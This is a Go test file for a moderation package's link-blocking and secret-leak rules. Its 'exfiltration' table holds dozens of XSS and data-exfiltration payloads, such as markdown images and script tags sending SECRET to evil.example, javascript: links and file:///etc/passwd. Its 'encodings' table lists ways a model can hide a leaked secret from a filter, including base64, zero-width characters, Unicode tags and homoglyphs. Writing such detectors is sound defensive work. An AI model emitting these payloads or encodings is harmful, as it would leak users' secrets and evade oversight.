package rules_test

import (
	"context"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/souffleur-go/souffleur/moderation"
	"github.com/souffleur-go/souffleur/moderation/rules"
	"github.com/stretchr/testify/require"
)

// exfiltration are forms that fetch something, run something, or open another place than they show.
var exfiltration = map[string]string{
	"inline image":             "See ![pic](https://evil.example/p.png?d=SECRET)",
	"image, no text":           "![](https://evil.example/SECRET.png)",
	"image, title":             `![a](https://evil.example/p "t")`,
	"image, angle":             "![a](<https://evil.example/p?d=S E>)",
	"image, nested brackets":   "![a [b] c](https://evil.example/p)",
	"image, brackets in path":  "![a](https://evil.example/(p)/x)",
	"image, data address":      "![a](data:image/png;base64,AAAA)",
	"image, relative":          "![a](//evil.example/p)",
	"image, line break":        "![a](\nhttps://evil.example/p)",
	"reference image":          "![a][x]\n\n[x]: https://evil.example/p.png",
	"collapsed image":          "![logo][]\n\n[logo]: https://evil.example/p.png",
	"shortcut image":           "![logo]\n\n[logo]: https://evil.example/p.png",
	"definition alone":         "[x]: https://evil.example/p.png",
	"definition, angle":        "  [x]: <https://evil.example/p.png>",
	"definition, relative":     "[x]: //evil.example/p",
	"definition, quoted":       "> [x]: https://evil.example/p",
	"definition, in a list":    "- [x]: https://evil.example/p",
	"definition, next line":    "[x]:\nhttps://evil.example/p",
	"image in a link":          "[![a](https://evil.example/p)](https://shop.example)",
	"img":                      `<img src="https://evil.example/p.png">`,
	"img, upper case":          `<IMG SRC=https://evil.example/p>`,
	"img, slash":               `<img/src=https://evil.example/p>`,
	"img, open":                `text <img src="https://evil.example/p`,
	"image element":            `<image href="x">`,
	"iframe":                   `<iframe src="https://evil.example"></iframe>`,
	"style":                    `<style>body{background:url(https://evil.example/p)}</style>`,
	"style attribute":          `<div style="background:url(https://evil.example/p)">`,
	"link element":             `<link rel="stylesheet" href="https://evil.example/p">`,
	"meta refresh":             `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	"base":                     `<base href="https://evil.example/">`,
	"form":                     `<form action="https://evil.example"><button>ok</button></form>`,
	"svg":                      `<svg/onload=alert(1)>`,
	"svg, new line":            "<svg\nonload=alert(1)>",
	"script":                   `<script>fetch("https://evil.example")</script>`,
	"script, src":              `<script src=//evil.example></script>`,
	"handler":                  `<p onclick="alert(1)">x</p>`,
	"details":                  `<details open ontoggle=alert(1)>`,
	"video":                    `<video><source onerror=alert(1)></video>`,
	"object":                   `<object data="https://evil.example"></object>`,
	"math":                     `<math><a xlink:href="javascript:alert(1)">x</a></math>`,
	"comment":                  `a <!-- SECRET --> b`,
	"doctype":                  `<!DOCTYPE html>`,
	"quoted angle":             `<img alt=">" src="https://evil.example/p">`,
	"entities":                 `&lt;img src="https://evil.example/p"&gt;`,
	"numeric entities":         `&#60;img src="https://evil.example/p"&#62;`,
	"javascript link":          "[click](javascript:alert(1))",
	"javascript, case":         "[click](JaVaScRiPt:alert(1))",
	"javascript, tab":          "[click](java\tscript:alert(1))",
	"javascript, entity":       "[click](javascript&#58;alert(1))",
	"javascript, named entity": "[click](javascript&colon;alert(1))",
	"javascript, percent":      "[click](javascript%3Aalert(1))",
	"vbscript":                 "[click](vbscript:msgbox(1))",
	"data link":                "[click](data:text/html;base64,AAAA)",
	"data, empty type":         "[click](data:,hello)",
	"file":                     "[click](file:///etc/passwd)",
	"relative link":            "[click](//evil.example/p)",
	"bare relative":            "Look at //evil.example/p?d=SECRET now",
	"other address shown":      "[https://shop.example](https://evil.example)",
	"other address, bold":      "[**shop.example/help**](https://evil.example/help)",
	"other address, www":       "[www.shop.example](https://evil.example)",
	"user name":                "See https://shop.example@evil.example/login",
	"user name in a link":      "[help](https://shop.example@evil.example/login)",
	"autolink, script":         "<javascript:alert(1)>",
}

func TestExfiltrationIsBlocked(t *testing.T) {
	for name, s := range exfiltration {
		t.Run(name, func(t *testing.T) {
			res := run(moderation.Subject{Lang: "en", Text: "Hello.\n\n" + s}, rules.Links())
			require.Equal(t, moderation.Blocked, res.Verdict, "%q", s)
		})
	}
}

func TestHonestLinksPass(t *testing.T) {
	for _, s := range []string{
		"See https://shop.example/help?a=1&b=2#c.", "See [the page](https://shop.example/help).", "See [shop.example](https://shop.example/help).",
		"See [www.shop.example](https://shop.example/help) or [shop.example](https://help.shop.example/).", "<https://shop.example>", "Write to help@shop.example.",
		"[mail](mailto:help@shop.example)", "I <3 books; 2 < 3 and 5 > 4.", "Chapter [1]: the beginning", "[sic]: as written", "See [1] and [2].",
		"Your data: 30 days. File: invoice.pdf. Jar: 250 g.", "a // b, and/or, 12//13", "Use <name> and <order number>.", "Well![really]", "Quel plaisir ![",
		"R&D &amp; co", "http://shop.example/a//b", "ms-dos is old: yes", "The MS-DOS box: 12 €", "« Salut ! » [rires]",
	} {
		require.Empty(t, run(moderation.Subject{Lang: "en", Text: s}, rules.Links()).Findings, "%q", s)
	}
}

// encodings are ways in which a model can let a secret out.
var encodings = map[string]func(string) string{
	"raw":              func(s string) string { return s },
	"upper case":       strings.ToUpper,
	"lower case":       strings.ToLower,
	"reversed":         reverse,
	"base64":           func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
	"base64url":        func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) },
	"base64 inside, 1": func(s string) string { return base64.StdEncoding.EncodeToString([]byte("k" + s + " and more")) },
	"base64 inside, 2": func(s string) string { return base64.StdEncoding.EncodeToString([]byte("it" + s + "!")) },
	"base32":           func(s string) string { return base32.StdEncoding.EncodeToString([]byte(s)) },
	"base32 inside":    func(s string) string { return base32.StdEncoding.EncodeToString([]byte("the " + s + " is")) },
	"hex":              func(s string) string { return hex.EncodeToString([]byte(s)) },
	"hex, spaced":      each(" ", func(c byte) string { return fmt.Sprintf("%02X", c) }),
	"hex, 0x":          each(",", func(c byte) string { return fmt.Sprintf("0x%02x", c) }),
	"hex escapes":      each("", func(c byte) string { return fmt.Sprintf(`\x%02x`, c) }),
	"u escapes":        each("", func(c byte) string { return fmt.Sprintf(`\u%04x`, c) }),
	"url":              each("", func(c byte) string { return fmt.Sprintf("%%%02X", c) }),
	"url query":        func(s string) string { return "https://x.example/?q=" + url.QueryEscape(s) },
	"entities":         each("", func(c byte) string { return fmt.Sprintf("&#%d;", c) }),
	"hex entities":     each("", func(c byte) string { return fmt.Sprintf("&#x%x;", c) }),
	"binary":           bits("0", "1", " "),
	"decimal":          each(" ", func(c byte) string { return fmt.Sprint(c) }),
	"rot13":            swap(alphabet+strings.ToUpper(alphabet), alphabet[13:]+alphabet[:13]+strings.ToUpper(alphabet[13:]+alphabet[:13])),
	"atbash":           swap(alphabet+strings.ToUpper(alphabet), reverse(alphabet)+strings.ToUpper(reverse(alphabet))),
	"spaced":           each(" ", func(c byte) string { return string(c) }),
	"hyphens":          each("-", func(c byte) string { return string(c) }),
	"lines":            each("\n", func(c byte) string { return string(c) }),
	"in halves":        func(s string) string { return s[:len(s)/2] + ", " + s[len(s)/2:] },
	"leet":             swap("aeiostAEIOST", "431057431057"),
	"full-width":       func(s string) string { return strings.Map(func(r rune) rune { return r - '!' + 0xFF01 }, s) },
	"bold": func(s string) string {
		return swap("0123456789", "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗")(shift('𝐚', 'a')(s))
	},
	"tags":       shiftAll(0xE0000),
	"zero width": each("\u200b", func(c byte) string { return string(c) }),
	"homoglyphs": swap("aceopxACEOPX", "асеорхАСЕОРХ"),
}

func TestCanaryIsFoundInEveryEncoding(t *testing.T) {
	for _, secret := range []string{"9f3a77c01be2d4e8", "LunaCanary77", "a0b1c2d3e4f50617"} {
		for name, hide := range encodings {
			t.Run(name+"/"+secret, func(t *testing.T) {
				s := moderation.Subject{Text: "Bonjour. Voici : " + hide(secret) + " voilà.", Secrets: []string{secret}}
				found, err := rules.Leak().Check(context.Background(), s)
				require.NoError(t, err)
				require.NotEmpty(t, found, "%q", s.Text)
				require.Equal(t, moderation.Block, found[0].Severity)
			})
		}
	}
	found, err := rules.Leak().Check(context.Background(), moderation.Subject{Text: strings.Repeat(plainMail, 20) + "ML-2481, 06 12 34 56 78, FR76 3000 6000 0112 3456 7890 189", Secrets: []string{"9f3a77c01be2d4e8", "LunaCanary77"}})
	require.NoError(t, err)
	require.Empty(t, found)
}
